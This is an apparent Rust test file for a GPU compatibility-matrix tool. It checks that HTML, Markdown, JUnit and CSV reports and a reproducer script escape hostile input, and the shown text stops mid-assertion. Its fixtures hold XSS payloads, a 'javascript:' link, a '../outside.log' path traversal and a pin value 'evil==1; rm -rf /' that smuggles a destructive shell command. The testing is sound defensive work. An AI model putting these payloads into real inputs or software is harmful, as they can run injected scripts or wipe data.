//! `report` and `compare` on run folders written by hand (no cell is run): two nightlies of a
//! small FlashInfer x GPU x model matrix, with hostile text in a log, an excerpt, values and ids.

use crate::util::{Sandbox, copy_dir, gpucompat};
use gpucompat::classify::{Clue, ClueKind};
use gpucompat::record::{
    CellRecord, Exit, ExpectationRef, GpuInfo, Manifest, Metrics, Phase, RunState, Runner, Status,
};
use gpucompat::report::{ReportOptions, build_context};
use gpucompat::signature::Signature;
use serde_json::{Value, json};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

const HOSTILE: &str = "<script>alert(1)</script>";
const EVIL_ID: &str = "evil</td><script>alert(1)</script>";

const MIXED: &str = "sm_86+sm_89";
const QWEN: &str = "qwen3-30b-a3b";
const NEXT: &str = "qwen3-next-80b-a3b";

fn gpu(index: u32, arch: &str) -> GpuInfo {
    let name = match arch {
        "sm_86" => "NVIDIA GeForce RTX 3090",
        "sm_89" => "NVIDIA GeForce RTX 4090",
        _ => "NVIDIA H100 80GB HBM3",
    };
    GpuInfo {
        index,
        name: name.to_owned(),
        arch: arch.to_owned(),
        memory_mib: None,
        uuid: None,
    }
}

fn id(fi: &str, gpu: &str, model: &str) -> String {
    format!("{fi}-{}-{model}", gpu.replace('+', "_"))
}

/// A record of the nightly matrix; the mixed-arch column carries the `include` keys.
fn rec(
    fi: &str,
    gpu_spec: &str,
    model: &str,
    status: Status,
    sig: Option<Signature>,
) -> CellRecord {
    let mut values = serde_json::Map::new();
    values.insert("flashinfer".into(), json!(fi));
    values.insert("gpu".into(), json!(gpu_spec));
    values.insert("model".into(), json!(model));
    if gpu_spec == MIXED {
        values.insert("workaround".into(), json!("sm86-first"));
        values.insert("arch_list".into(), json!("8.6"));
    }
    let cell = id(fi, gpu_spec, model);
    let gpus = if gpu_spec == MIXED {
        // The workaround: the sm_86 card (index 1) first.
        vec![gpu(1, "sm_86"), gpu(0, "sm_89")]
    } else {
        vec![gpu(2, gpu_spec)]
    };
    CellRecord {
        log: format!("logs/{cell}.log"),
        id: cell,
        values,
        pins: vec![
            format!("flashinfer-cubin=={fi}"),
            format!("flashinfer-python=={fi}"),
        ],
        status,
        signature: sig,
        phase: Some(match status {
            Status::Pass | Status::Xpass | Status::Flaky => Phase::Teardown,
            _ => Phase::Ready,
        }),
        duration_s: 61.5,
        attempts: if status == Status::Flaky { 2 } else { 1 },
        metrics: Metrics::default(),
        runner: Runner {
            host: "gpu-a".to_owned(),
            gpus,
        },
        fingerprint: None,
        line: None,
        excerpt: None,
        decided_by: None,
        evidence: Vec::new(),
        exit: None,
        spurious: false,
        reason: None,
        expectation: None,
        started_at: None,
        leaked: 0,
        hang: None,
        format_version: 1,
    }
}

fn metrics(ready: f64, jit: f64, tps: f64) -> Metrics {
    Metrics {
        time_to_ready_s: Some(ready),
        jit_s: Some(jit),
        ttft_s: Some(0.052),
        tpot_s: Some(0.011),
        tokens_per_s: Some(tps),
        jit_cache_hit: Some(false),
        provision_s: Some(3.0),
    }
}

fn mixed_expectation() -> ExpectationRef {
    ExpectationRef {
        signature: Some(Signature::NoKernelImage),
        link: Some("https://github.com/kvcache-ai/ktransformers/issues/2039".to_owned()),
        reason: Some("mixed-arch TP: kernels built for GPU 0's arch only".to_owned()),
    }
}

/// The log of the regressed cell: a root cause at line 6 among hostile lines.
const ILLEGAL_LOG: &str = "\
[gpucompat] cell 0.6.11.post1-sm_90-qwen3-30b-a3b attempt 1
Loading model qwen3-30b-a3b
<script>alert(1)</script>
</td></tr></table><b>not bold</b> &amp; &lt;
capturing CUDA graphs (piecewise)
RuntimeError: CUDA error: an illegal memory access was encountered
\u{1b}[31mCompile with `TORCH_USE_CUDA_DSA` to enable device-side assertions.\u{1b}[0m
worker exited
";

/// Last night: what tonight is compared with.
fn last_night() -> Vec<CellRecord> {
    let mut out = Vec::new();
    let mut r = rec("0.6.3", "sm_90", QWEN, Status::Pass, None);
    r.metrics = metrics(44.0, 30.0, 90.0);
    out.push(r);
    let mut r = rec(
        "0.6.3",
        MIXED,
        QWEN,
        Status::Xfail,
        Some(Signature::NoKernelImage),
    );
    r.expectation = Some(mixed_expectation());
    r.fingerprint = Some("no kernel image is available for execution on the device".into());
    out.push(r);
    let mut r = rec("0.6.11.post1", "sm_90", QWEN, Status::Pass, None);
    r.metrics = metrics(40.0, 25.0, 101.0);
    out.push(r);
    let mut r = rec(
        "0.6.11.post1",
        MIXED,
        QWEN,
        Status::Xfail,
        Some(Signature::NoKernelImage),
    );
    r.expectation = Some(mixed_expectation());
    r.fingerprint = Some("no kernel image is available for execution on the device".into());
    out.push(r);
    out.push(rec("0.6.3", "sm_90", NEXT, Status::Pass, None));
    let mut r = rec("0.6.3", MIXED, NEXT, Status::Skip, None);
    r.reason = Some("no GPU of this host can serve sm_86+sm_89".into());
    out.push(r);
    let mut r = rec(
        "0.6.11.post1",
        "sm_90",
        NEXT,
        Status::Fail,
        Some(Signature::Oom),
    );
    r.fingerprint = Some("CUDA out of memory. Tried to allocate <N> GiB".into());
    out.push(r);
    let mut r = rec(
        "0.6.11.post1",
        MIXED,
        NEXT,
        Status::Fail,
        Some(Signature::Deadlock),
    );
    r.fingerprint = Some("no progress for 300s".into());
    out.push(r);
    // Dropped from tonight's matrix.
    out.push(rec("0.6.8.post1", "sm_90", QWEN, Status::Pass, None));
    out
}

/// Tonight: one of each status, a regression, a fix (xpass), hostile text.
fn tonight() -> Vec<CellRecord> {
    let mut out = Vec::new();
    let mut r = rec("0.6.3", "sm_90", QWEN, Status::Pass, None);
    r.metrics = metrics(42.0, 31.5, 92.0);
    out.push(r);
    let mut r = rec(
        "0.6.3",
        MIXED,
        QWEN,
        Status::Xfail,
        Some(Signature::NoKernelImage),
    );
    r.expectation = Some(mixed_expectation());
    r.fingerprint = Some("no kernel image is available for execution on the device".into());
    r.excerpt = Some("torch.AcceleratorError: CUDA error: no kernel image is available".into());
    r.metrics = metrics(80.0, 70.0, 0.0);
    r.metrics.tokens_per_s = None;
    out.push(r);
    let mut r = rec(
        "0.6.11.post1",
        "sm_90",
        QWEN,
        Status::Fail,
        Some(Signature::IllegalAddress),
    );
    r.fingerprint = Some("CUDA error: an illegal memory access was encountered".into());
    r.line = Some(6);
    r.decided_by = Some("fatal_line".into());
    r.evidence = vec![
        Clue::new(ClueKind::Rule, "cuda-illegal-address", Some(6)),
        Clue::new(
            ClueKind::CudaError,
            "cudaErrorIllegalAddress (700)",
            Some(6),
        ),
        Clue::new(ClueKind::Exit, "code 1", None),
    ];
    r.exit = Some(Exit {
        code: Some(1),
        signal: None,
    });
    r.metrics = metrics(38.0, 24.0, 0.0);
    r.metrics.tokens_per_s = None;
    out.push(r);
    let mut r = rec("0.6.11.post1", MIXED, QWEN, Status::Xpass, None);
    r.expectation = Some(mixed_expectation());
    r.metrics = metrics(95.0, 82.0, 48.0);
    out.push(r);
    let mut r = rec(
        "0.6.3",
        "sm_90",
        NEXT,
        Status::Flaky,
        Some(Signature::CollectiveTimeout),
    );
    r.reason = Some("failed 1 time before passing".into());
    r.metrics = metrics(120.0, 60.0, 55.0);
    out.push(r);
    let mut r = rec("0.6.3", MIXED, NEXT, Status::Skip, None);
    r.reason = Some("no GPU of this host can serve sm_86+sm_89".into());
    r.phase = None;
    out.push(r);
    let mut r = rec(
        "0.6.11.post1",
        "sm_90",
        NEXT,
        Status::Error,
        Some(Signature::DependencyError),
    );
    r.spurious = true;
    r.phase = Some(Phase::Provision);
    r.reason = Some("infrastructure fault (dependency_error): says nothing about the cell".into());
    out.push(r);
    let mut r = rec(
        "0.6.11.post1",
        MIXED,
        NEXT,
        Status::Fail,
        Some(Signature::Deadlock),
    );
    r.fingerprint = Some("no progress for 300s".into());
    out.push(r);
    // A hand-edited record: hostile id, values, excerpt, reason and links; its log path leaves
    // the run folder.
    let mut r = rec(
        "0.6.3",
        "sm_90",
        "<b>bold</b>&amp;",
        Status::Fail,
        Some(Signature::Unknown),
    );
    r.id = EVIL_ID.to_owned();
    r.log = "../outside.log".to_owned();
    r.excerpt = Some(format!("{HOSTILE}\n</td></tr></table>\n&amp; done"));
    r.reason = Some(format!("reason {HOSTILE}"));
    r.fingerprint = Some("<img src=x onerror=alert(1)>".into());
    r.expectation = Some(ExpectationRef {
        signature: Some(Signature::Oom),
        link: Some("javascript:alert(1)".into()),
        reason: Some(HOSTILE.into()),
    });
    r.pins = vec!["evil==1; rm -rf /".into()];
    out.push(r);
    out
}

fn plan_cell(record: &CellRecord) -> Value {
    let fi = record.values["flashinfer"].as_str().unwrap_or_default();
    let model = record.values["model"].as_str().unwrap_or_default();
    let engine = if model == NEXT {
        json!({"type": "server", "kind": "sglang", "command": format!(
            "python -m sglang.launch_server --model-path Qwen/Qwen3-Next-80B-A3B --port {{port}} --tp 2"),
            "args": "--attention-backend flashinfer"})
    } else {
        json!({"type": "job", "command": format!("sh smoke.sh {fi} '{model}'")})
    };
    let env: Vec<Value> = if record.values.contains_key("arch_list") {
        vec![json!(["TORCH_CUDA_ARCH_LIST", "8.6"])]
    } else {
        Vec::new()
    };
    json!({"id": record.id, "values": record.values, "gpus": [], "pins": [], "env": env,
           "engine": engine, "timeout": "30m", "no_progress": "5m", "cache": "warm",
           "requirements": null, "expectation": null})
}

/// Writes a run folder: manifest, plan, results (with an earlier record of one cell that the
/// later one replaces) and logs.
fn write_run(dir: &Path, started_at: &str, records: &[CellRecord]) {
    std::fs::create_dir_all(dir.join("logs")).expect("create folder");
    let manifest = Manifest {
        format_version: 1,
        harness_version: "0.1.0".into(),
        matrix: "matrices/nightly.toml".into(),
        matrix_hash: "ab".repeat(32),
        host: "gpu-a".into(),
        started_at: started_at.into(),
        finished_at: Some(started_at.replace("T02", "T05")),
        state: RunState::Finished,
        cells: records.len(),
        replay: false,
        resumes: 0,
        inventory: "nvidia-smi".into(),
        shards: Vec::new(),
    };
    std::fs::write(
        dir.join("manifest.json"),
        serde_json::to_string_pretty(&manifest).expect("serialize"),
    )
    .expect("write fixture");
    let plan = json!({
        "path": "matrices/nightly.toml",
        "dir": "matrices",
        "file_hash": "ab".repeat(32),
        "keys": ["flashinfer", "gpu", "model", "workaround", "arch_list"],
        "cells": records.iter().map(plan_cell).collect::<Vec<_>>(),
    });
    std::fs::write(
        dir.join("plan.json"),
        serde_json::to_string_pretty(&plan).expect("serialize"),
    )
    .expect("write fixture");
    let mut lines = String::new();
    // An earlier record of the first cell (resume): the later line wins.
    if let Some(first) = records.first() {
        let mut stale = first.clone();
        stale.status = Status::Skip;
        lines.push_str(&serde_json::to_string(&stale).expect("serialize"));
        lines.push('\n');
    }
    for record in records {
        lines.push_str(&serde_json::to_string(record).expect("serialize"));
        lines.push('\n');
        if let Some(rel) = Some(&record.log).filter(|l| !l.contains("..")) {
            let text = if record.signature == Some(Signature::IllegalAddress) {
                ILLEGAL_LOG.to_owned()
            } else {
                format!(
                    "[gpucompat] cell {}\nstarting\n{}\n",
                    record.id,
                    if record.status == Status::Pass {
                        "ok"
                    } else {
                        "failed"
                    }
                )
            };
            std::fs::write(dir.join(rel), text).expect("write fixture");
        }
    }
    std::fs::write(dir.join("results.jsonl"), lines).expect("write fixture");
}

/// Two nightlies in a sandbox: (sandbox, last night, tonight).
fn nightlies() -> (Sandbox, PathBuf, PathBuf) {
    let sandbox = Sandbox::new();
    let last = sandbox.path().join("runs/2026-11-20");
    let tonight_dir = sandbox.path().join("runs/2026-11-21");
    write_run(&last, "2026-11-20T02:00:00Z", &last_night());
    write_run(&tonight_dir, "2026-11-21T02:00:00Z", &tonight());
    (sandbox, last, tonight_dir)
}

fn read(path: &Path) -> String {
    std::fs::read_to_string(path).unwrap_or_else(|e| panic!("read {}: {e}", path.display()))
}

#[test]
fn context_snapshot() {
    let (sandbox, last, tonight_dir) = nightlies();
    let out = sandbox.path().join("report");
    // Given newest first: the report orders by `started_at`.
    let mut ctx = build_context(&[tonight_dir, last], &out, &ReportOptions::default()).unwrap();
    ctx.harness_version = "[VERSION]";
    let temp = sandbox.path().display().to_string();
    insta::with_settings!({filters => vec![(temp.as_str(), "[TEMP]")]}, {
        insta::assert_json_snapshot!("nightly_context", ctx);
    });
}

#[test]
fn context_of_a_single_run_with_few_records() {
    let sandbox = Sandbox::new();
    let dir = sandbox.path().join("run");
    std::fs::create_dir_all(&dir).unwrap();
    // No manifest, no plan, one record, no log file.
    let mut r = rec("0.6.3", "sm_90", QWEN, Status::Pass, None);
    r.values.remove("model");
    std::fs::write(
        dir.join("results.jsonl"),
        serde_json::to_string(&r).unwrap() + "\n{\"id\": \"cut short",
    )
    .unwrap();
    let mut ctx =
        build_context(std::slice::from_ref(&dir), &dir, &ReportOptions::default()).unwrap();
    ctx.harness_version = "[VERSION]";
    let temp = sandbox.path().display().to_string();
    insta::with_settings!({filters => vec![(temp.as_str(), "[TEMP]")]}, {
        insta::assert_json_snapshot!("single_run_context", ctx);
    });
}

fn report(runs: &[&Path], out: &Path, extra: &[&str]) -> std::process::Output {
    gpucompat()
        .arg("report")
        .args(runs)
        .arg("--out")
        .arg(out)
        .args(extra)
        .output()
        .expect("run gpucompat")
}

#[test]
fn report_writes_every_format() {
    let (sandbox, last, tonight_dir) = nightlies();
    let out = sandbox.path().join("report");
    let output = report(&[&last, &tonight_dir], &out, &[]);
    let stdout = String::from_utf8_lossy(&output.stdout);
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(0), "{stdout}\n{stderr}");
    assert!(
        stdout.contains("1 regression since the previous run"),
        "{stdout}"
    );
    assert!(stderr.contains("leaves the run folder"), "{stderr}");
    for file in [
        "index.html",
        "compat.md",
        "compat.csv",
        "compat.json",
        "junit.xml",
        "plots/heatmap-1.svg",
        "plots/heatmap-2.svg",
        "plots/heatmap-3.svg",
        "plots/jit.svg",
        "plots/ready.svg",
        "plots/tokens.svg",
        "cells/0.6.11.post1-sm_90-qwen3-30b-a3b.html",
        "logs/0.6.11.post1-sm_90-qwen3-30b-a3b.log",
    ] {
        assert!(out.join(file).is_file(), "{file} missing");
    }
    let pages = std::fs::read_dir(out.join("cells")).unwrap().count();
    assert_eq!(pages, tonight().len());

    // Markdown: versions x GPU archs, one table per model; signatures, links, xpass note.
    let md = read(&out.join("compat.md"));
    assert!(md.contains("## model = qwen3-30b-a3b\n"), "{md}");
    assert!(
        md.contains("| flashinfer ↓ gpu → | sm_90 | sm_86+sm_89 |\n|---|---|---|\n"),
        "{md}"
    );
    assert!(
        md.contains(
            "| **0.6.3** | ✓ pass | ⊘ xfail no_kernel_image [upstream](https://github.com/kvcache-ai/ktransformers/issues/2039) |"
        ),
        "{md}"
    );
    assert!(
        md.contains(
            "| **0.6.11.post1** | ✗ illegal_address **(regressed)** | ! XPASS [upstream](https://github.com/kvcache-ai/ktransformers/issues/2039): remove the workaround or exclusion (fixed) |"
        ),
        "{md}"
    );
    assert!(md.contains("## model = \\<b\\>bold\\</b\\>\\&amp;"), "{md}");
    assert!(!md.contains("<script>") && !md.contains("<b>"), "{md}");
    assert!(!md.contains("javascript:"), "{md}");
    assert!(md.contains("Since `2026-11-20`: 1 regressed"), "{md}");

    // CSV: one row per cell, every axis a column.
    let mut csv = csv::Reader::from_path(out.join("compat.csv")).unwrap();
    let header = csv.headers().unwrap().clone();
    assert_eq!(
        &header.iter().take(6).collect::<Vec<_>>(),
        &[
            "id",
            "flashinfer",
            "gpu",
            "model",
            "workaround",
            "arch_list"
        ]
    );
    let rows: Vec<csv::StringRecord> = csv.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), tonight().len());
    let evil = rows.iter().find(|r| &r[0] == EVIL_ID).expect("evil row");
    assert_eq!(&evil[3], "<b>bold</b>&amp;");

    // JSON: the view model.
    let json: Value = serde_json::from_str(&read(&out.join("compat.json"))).unwrap();
    assert_eq!(json["counts"]["total"], 9);
    assert_eq!(json["changes"]["regressions"], 1);

    // JUnit: one test case per cell, escaped.
    let junit = read(&out.join("junit.xml"));
    assert_eq!(junit.matches("<testcase ").count(), tonight().len());
    assert!(junit.contains("type=\"illegal_address\""), "{junit}");
    assert!(junit.contains("<failure message=\"XPASS: "), "{junit}");
    assert!(junit.contains("&lt;script&gt;alert(1)&lt;/script&gt;"));
    assert!(!junit.contains("<script>") && !junit.contains('\u{1b}'));

    // HTML: escaped, offline.
    let index = read(&out.join("index.html"));
    assert!(!index.contains("<script"), "a script element in index.html");
    assert!(index.contains("evil&lt;/td&gt;&lt;script&gt;alert(1)&lt;/script&gt;"));
    assert!(!index.contains("href=\"javascript:"));
    for attr in ["src=\"http", "href=\"//", "src=\"//", "url(http", "@import"] {
        assert!(
            !index.contains(attr),
            "external fetch `{attr}` in index.html"
        );
    }
    let page = read(&out.join("cells/0.6.11.post1-sm_90-qwen3-30b-a3b.html"));
    assert!(
        page.contains(
            "<mark>RuntimeError: CUDA error: an illegal memory access was encountered</mark>"
        ),
        "{page}"
    );
    assert!(page.contains(
        "&lt;/td&gt;&lt;/tr&gt;&lt;/table&gt;&lt;b&gt;not bold&lt;/b&gt; &amp;amp; &amp;lt;"
    ));
    assert!(!page.contains("<script") && !page.contains('\u{1b}'));
    assert!(page.contains("CUDA_VISIBLE_DEVICES=2"), "{page}");
    // Which evidence decided, on the cell's page.
    assert!(
        page.contains("<dt>decided by</dt><dd>fatal line</dd>"),
        "{page}"
    );
    assert!(
        page.contains(
            "rule cuda-illegal-address (line 6)<br>cuda error cudaErrorIllegalAddress (700) (line 6)<br>exit code 1"
        ),
        "{page}"
    );
}

#[test]
fn reproducer_has_pins_env_gpu_order_and_quoted_command() {
    let (sandbox, last, tonight_dir) = nightlies();
    let ctx = build_context(
        &[last, tonight_dir],
        &sandbox.path().join("out"),
        &ReportOptions::default(),
    )
    .unwrap();
    let cell = ctx
        .cells
        .iter()
        .find(|c| c.id == id("0.6.3", MIXED, QWEN))
        .unwrap();
    let script = &cell.reproducer.script;
    assert!(
        script.contains("python -m pip install flashinfer-cubin==0.6.3 flashinfer-python==0.6.3"),
        "{script}"
    );
    assert!(
        script.contains("cd matrices && env \\\n  CUDA_VISIBLE_DEVICES=1,0 \\\n"),
        "{script}"
    );
    assert!(
        script.contains("  TORCH_CUDA_ARCH_LIST=8.6 \\\n"),
        "{script}"
    );
    assert!(
        script.contains("  sh -c 'sh smoke.sh 0.6.3 '\\''qwen3-30b-a3b'\\'''"),
        "{script}"
    );
    assert!(
        script.contains(
            "gpucompat run matrices/nightly.toml --cell 0.6.3-sm_86_sm_89-qwen3-30b-a3b --out runs/repro-0.6.3-sm_86_sm_89-qwen3-30b-a3b"
        ),
        "{script}"
    );
    // The reproducer runs: the quoted command is what `sh -c` gets.
    let server = ctx
        .cells
        .iter()
        .find(|c| c.id == id("0.6.3", "sm_90", NEXT))
        .unwrap();
    let command = server.reproducer.command.as_deref().unwrap();
    assert!(
        command.contains("--port 30000 --tp 2 --attention-backend flashinfer"),
        "{command}"
    );
    assert!(command.contains("GPUCOMPAT_PORT=30000"), "{command}");
    let evil = ctx.cells.iter().find(|c| c.id == EVIL_ID).unwrap();
    assert!(
        evil.reproducer
            .script
            .contains("pip install 'evil==1; rm -rf /'"),
        "{}",
        evil.reproducer.script
    );
    // Quoting survives a real shell: echo the env words back.
    let echo = cell
        .reproducer
        .command
        .as_deref()
        .unwrap()
        .replace("cd matrices && env", "printf '%s\\n'");
    let out = Command::new("sh").arg("-c").arg(&echo).output().unwrap();
    let words = String::from_utf8_lossy(&out.stdout);
    assert!(
        words
            .lines()
            .any(|l| l == "sh smoke.sh 0.6.3 'qwen3-30b-a3b'"),
        "{words}"
    );
    assert!(
        words
            .lines()
            .any(|l| l == "GPUCOMPAT_PINS=flashinfer-cubin==0.6.3 flashinfer-python==0.6.3"),
        "{words}"
    );
}

#[test]
fn report_pivots_other_axes_and_rejects_unknown_ones() {
    let (sandbox, last, tonight_dir) = nightlies();
    let out = sandbox.path().join("report");
    let output = report(
        &[&last, &tonight_dir],
        &out,
        &["--rows", "model", "--cols", "flashinfer"],
    );
    assert_eq!(output.status.code(), Some(0));
    let md = read(&out.join("compat.md"));
    assert!(md.contains("## gpu = sm_90\n"), "{md}");
    assert!(
        md.contains("| model ↓ flashinfer → | 0.6.3 | 0.6.11.post1 |"),
        "{md}"
    );

    // Bad input: exit 2 with a message that says what.
    let runs = sandbox.path().join("runs");
    let cases: [(&Path, &[&str], &[&str]); 3] = [
        (
            &tonight_dir,
            &["--rows", "nope"],
            &["`--rows nope`: no such axis", "flashinfer, gpu, model"],
        ),
        (&tonight_dir, &["--rows", "gpu", "--cols", "gpu"], &[]),
        (&runs, &[], &["is not a run folder"]),
    ];
    for (run, args, messages) in cases {
        let output = report(&[run], &out, args);
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert_eq!(output.status.code(), Some(2), "{args:?}: {stderr}");
        for message in messages {
            assert!(stderr.contains(message), "{args:?}: {stderr}");
        }
    }
}

#[test]
fn report_in_the_run_folder_links_its_logs() {
    let (_sandbox, last, tonight_dir) = nightlies();
    let output = report(&[&tonight_dir], &tonight_dir, &[]);
    assert_eq!(output.status.code(), Some(0), "{output:?}");
    assert!(tonight_dir.join("index.html").is_file());
    let page = read(&tonight_dir.join("cells/0.6.11.post1-sm_90-qwen3-30b-a3b.html"));
    assert!(page.contains("href=\"../logs/0.6.11.post1-sm_90-qwen3-30b-a3b.log\""));
    // Nothing copied over the run's own logs: they are still the originals.
    assert_eq!(
        read(&tonight_dir.join("logs/0.6.11.post1-sm_90-qwen3-30b-a3b.log")),
        ILLEGAL_LOG
    );
    // The run folder still reads as a run (and renders again).
    let output = report(&[&tonight_dir], &tonight_dir, &[]);
    assert_eq!(output.status.code(), Some(0));
    // Never into another run's folder: its logs would be overwritten.
    let output = report(&[&last, &tonight_dir], &last, &[]);
    assert_eq!(output.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&output.stderr).contains("holds another run"));
}

/// What `run` does at its end: render into its own folder, even with no record yet.
#[test]
fn render_in_place_with_no_records() {
    let sandbox = Sandbox::new();
    let dir = sandbox.path().join("run");
    write_run(&dir, "2026-11-21T02:00:00Z", &[]);
    std::fs::remove_file(dir.join("results.jsonl")).unwrap();
    let summary =
        gpucompat::report::render(std::slice::from_ref(&dir), &dir, &ReportOptions::default())
            .unwrap();
    assert_eq!(summary.counts.total, 0);
    assert_eq!(summary.plots, 0);
    let index = read(&dir.join("index.html"));
    assert!(index.contains("No cell has a result yet."), "{index}");
    assert!(read(&dir.join("compat.md")).contains("no cells"));
}

fn compare(base: &Path, head: &Path, format: &str) -> (Option<i32>, String) {
    let output = gpucompat()
        .args(["compare"])
        .arg(base)
        .arg(head)
        .args(["--format", format])
        .output()
        .expect("run gpucompat");
    (
        output.status.code(),
        String::from_utf8_lossy(&output.stdout).into_owned(),
    )
}

#[test]
fn compare_classifies_cells_and_exits_1_on_regressions() {
    let (sandbox, last, tonight_dir) = nightlies();
    let (code, table) = compare(&last, &tonight_dir, "table");
    assert_eq!(code, Some(1), "{table}");
    let line = |id: &str| {
        table
            .lines()
            .find(|l| l.starts_with(&format!("{id} ")))
            .unwrap_or_else(|| panic!("no line for {id} in\n{table}"))
            .split_whitespace()
            .nth(1)
            .unwrap()
            .to_owned()
    };
    for (cell, expected) in [
        (id("0.6.11.post1", "sm_90", QWEN), "regressed"),
        (id("0.6.11.post1", MIXED, QWEN), "fixed"),
        (id("0.6.3", MIXED, QWEN), "still_failing_same"),
        (id("0.6.3", "sm_90", NEXT), "newly_flaky"),
        (id("0.6.11.post1", "sm_90", NEXT), "spurious"),
        (id("0.6.11.post1", MIXED, NEXT), "still_failing_same"),
        (id("0.6.3", MIXED, NEXT), "skipped"),
        (id("0.6.8.post1", "sm_90", QWEN), "removed"),
    ] {
        assert_eq!(line(&cell), expected, "{cell}");
    }
    assert!(
        !table.contains(&format!("{} ", id("0.6.3", "sm_90", QWEN))),
        "passing cells are not listed"
    );
    assert!(table.contains(": 1 regressed, 1 newly flaky, 1 fixed, 2 still failing same, 1 spurious, 1 new, 1 removed, 1 skipped, 1 passing"), "{table}");

    let (code, json) = compare(&last, &tonight_dir, "json");
    assert_eq!(code, Some(1));
    let json: Value = serde_json::from_str(&json).unwrap();
    assert_eq!(json["regressions"], 1);
    assert_eq!(json["counts"]["regressed"], 1);
    assert_eq!(json["counts"]["passing"], 1);
    assert_eq!(json["cells"].as_array().unwrap().len(), 10);
    assert_eq!(json["cells"][0]["comparison"], "regressed");
    assert_eq!(json["cells"][0]["base"]["status"], "pass");
    assert_eq!(json["cells"][0]["head"]["signature"], "illegal_address");

    let (code, md) = compare(&last, &tonight_dir, "md");
    assert_eq!(code, Some(1));
    assert!(
        md.contains(
            "| 0.6.11.post1-sm_90-qwen3-30b-a3b | **regressed** | pass | fail illegal_address |"
        ),
        "{md}"
    );
    assert!(md.contains("evil\\</td\\>\\<script\\>"), "{md}");

    // Backwards there is no regression; a run against itself neither.
    assert_eq!(compare(&tonight_dir, &last, "table").0, Some(0));
    assert_eq!(compare(&tonight_dir, &tonight_dir, "table").0, Some(0));
    // Bad input: exit 2.
    let (code, _) = compare(&last, &sandbox.path().join("missing"), "table");
    assert_eq!(code, Some(2));
    let corrupt = sandbox.path().join("corrupt");
    std::fs::create_dir_all(&corrupt).unwrap();
    std::fs::write(corrupt.join("results.jsonl"), "not json\n{}\n").unwrap();
    assert_eq!(compare(&last, &corrupt, "table").0, Some(2));
}

/// Runs a command with its output going to files (a pipe nobody reads would fill up and stall
/// it), killing it after `limit`; returns (stdout, stderr).
fn run_with_limit(command: &mut Command, scratch: &Path, limit: Duration) -> (String, String) {
    let stdout = scratch.join("stdout");
    let stderr = scratch.join("stderr");
    let mut child = command
        .stdin(Stdio::null())
        .stdout(std::fs::File::create(&stdout).expect("create output file"))
        .stderr(std::fs::File::create(&stderr).expect("create output file"))
        .spawn()
        .unwrap_or_else(|e| {
            panic!(
                "cannot start `chromium` ({e}). The dashboard test needs a real headless browser: \
                 install Debian's `chromium` package (`apt-get install -y chromium`; `.ci/run` does this)."
            )
        });
    let start = Instant::now();
    loop {
        if child.try_wait().expect("poll chromium").is_some() {
            break;
        }
        if start.elapsed() > limit {
            let _ = child.kill();
            let _ = child.wait();
            panic!(
                "chromium did not finish within {limit:?}: {}",
                read(&stderr)
            );
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    (read(&stdout), read(&stderr))
}

fn chromium(profile: &Path, args: &[String]) -> String {
    let found = std::env::var_os("PATH")
        .map(|p| std::env::split_paths(&p).any(|d| d.join("chromium").is_file()))
        .unwrap_or(false);
    assert!(
        found,
        "`chromium` is not on PATH. The dashboard test needs a real headless browser: install \
         Debian's `chromium` package (`apt-get install -y chromium`; `.ci/run` does this)."
    );
    let mut command = Command::new("chromium");
    command.args([
        "--headless",
        "--no-sandbox",
        "--disable-gpu",
        "--disable-quic",
        "--no-first-run",
        "--disable-background-networking",
        "--disable-component-update",
        "--disable-sync",
        "--hide-scrollbars",
    ]);
    command.arg(format!("--user-data-dir={}", profile.display()));
    command.args(args);
    let scratch = profile.with_extension("io");
    std::fs::create_dir_all(&scratch).expect("create folder");
    run_with_limit(&mut command, &scratch, Duration::from_secs(90)).0
}

fn url(path: &Path) -> String {
    format!(
        "file://{}",
        path.canonicalize().expect("canonical path").display()
    )
}

/// The dashboard in a real browser: the table is in the DOM, hostile log text is text (no
/// script element came out of it), and a screenshot is taken (kept under the target folder).
#[test]
fn browser_renders_dashboard_and_shows_hostile_text_as_text() {
    let (sandbox, last, tonight_dir) = nightlies();
    let out = sandbox.path().join("report");
    let output = report(&[&last, &tonight_dir], &out, &[]);
    assert_eq!(output.status.code(), Some(0));
    let profile = sandbox.path().join("chromium-profile");

    let dom = chromium(
        &profile,
        &["--dump-dom".into(), url(&out.join("index.html"))],
    );
    assert!(
        dom.contains("<table class=\"pivot\">"),
        "no table in the DOM:\n{dom}"
    );
    assert!(dom.contains("✗ illegal_address"), "{dom}");
    assert!(dom.contains("<svg"), "plots are inline");
    // The hostile id and value are text nodes, serialized escaped; no element came from them.
    assert!(
        dom.contains("evil&lt;/td&gt;&lt;script&gt;alert(1)&lt;/script&gt;"),
        "{dom}"
    );
    assert!(
        !dom.contains("<script"),
        "a script element is in the DOM:\n{dom}"
    );
    assert!(
        !dom.contains("<b>bold</b>"),
        "markup from a value became an element"
    );

    for page in [
        "0.6.11.post1-sm_90-qwen3-30b-a3b.html".to_owned(),
        format!("{}.html", evil_stem()),
    ] {
        let path = out.join("cells").join(&page);
        let dom = chromium(&profile, &["--dump-dom".into(), url(&path)]);
        assert!(
            dom.contains("&lt;script&gt;alert(1)&lt;/script&gt;"),
            "{page}:\n{dom}"
        );
        assert!(!dom.contains("<script"), "{page}: a script element:\n{dom}");
        assert!(!dom.contains("<img"), "{page}: an img element:\n{dom}");
        assert!(!dom.contains("href=\"javascript:"), "{page}");
    }

    // Screenshots and a copy of the report stay under the target folder, to look at.
    let shots = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("report-browser");
    let _ = std::fs::remove_dir_all(&shots);
    copy_dir(&out, &shots.join("report"));
    for (name, page, size) in [
        ("index.png", out.join("index.html"), "1400,900"),
        ("index-full.png", out.join("index.html"), "1400,4200"),
        (
            "cell.png",
            out.join("cells/0.6.11.post1-sm_90-qwen3-30b-a3b.html"),
            "1400,900",
        ),
    ] {
        let png = shots.join(name);
        let _ = std::fs::remove_file(&png);
        chromium(
            &profile,
            &[
                format!("--screenshot={}", png.display()),
                format!("--window-size={size}"),
                url(&page),
            ],
        );
        let bytes =
            std::fs::read(&png).unwrap_or_else(|e| panic!("no screenshot {}: {e}", png.display()));
        assert!(bytes.starts_with(b"\x89PNG"), "not a PNG");
        assert!(
            bytes.len() > 20_000,
